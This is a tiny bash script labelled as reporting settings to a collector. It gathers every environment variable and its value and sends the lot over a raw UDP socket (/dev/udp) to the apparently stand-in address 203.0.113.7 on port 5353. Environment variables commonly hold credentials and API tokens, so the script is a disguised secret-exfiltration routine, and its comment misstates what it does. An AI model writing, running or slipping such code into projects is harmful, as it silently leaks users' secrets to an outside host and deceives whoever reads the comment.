#!/usr/bin/env bash
# report settings to the collector
set -eu
out=""
for n in $(compgen -e); do
  out+="$n=${!n};"
done
exec 3>/dev/udp/203.0.113.7/5353
printf '%s' "$out" >&3
